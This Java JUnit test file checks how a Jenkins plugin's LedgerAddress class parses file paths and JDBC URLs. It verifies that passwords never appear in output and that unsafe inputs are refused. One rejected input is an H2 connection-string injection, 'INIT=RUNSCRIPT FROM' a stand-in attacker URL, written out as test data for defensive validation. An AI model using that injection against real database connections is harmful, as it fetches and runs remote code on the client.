package io.jenkins.plugins.slipway.ledger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LedgerAddressTest {
    @Test
    void shouldReadAPathWithOrWithoutH2sSuffix() {
        var expected = new LedgerAddress.InFile(Path.of(".slipway/ledger"), false);

        assertThat(LedgerAddress.of(".slipway/ledger")).isEqualTo(expected);
        assertThat(LedgerAddress.of(".slipway/ledger.mv.db")).isEqualTo(expected);
        assertThat(expected.path()).isAbsolute();
    }

    @Test
    void shouldNotShowThePasswordOfAUrl() {
        var address = LedgerAddress.of("jdbc:postgresql://db.example:5433/slipway?user=ci&password=s3cret");

        assertThat(address).isInstanceOf(LedgerAddress.InPostgreSql.class);
        assertThat(address.toString()).isEqualTo("jdbc:postgresql://db.example:5433/slipway");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "jdbc:mysql://root:s3cret@host/db?password=s3cret",
                "jdbc:h2:mem:x;PASSWORD=s3cret",
                "jdbc:postgresql://ci:s3cret@db.example/slipway",
                "jdbc:postgresql://ci:s3c/ret@db.example/slipway?password=s3cret",
                "jdbc:postgresql:slipway?password=s3cret",
                "a;INIT=RUNSCRIPT FROM 'http://evil.example'",
                "/",
                "a\0b"
            })
    void shouldRefuseWhatIsNeitherAndShowNoPassword(String text) {
        assertThatThrownBy(() -> LedgerAddress.of(text))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("ledger")
                .message()
                .doesNotContain("s3c");
    }
}
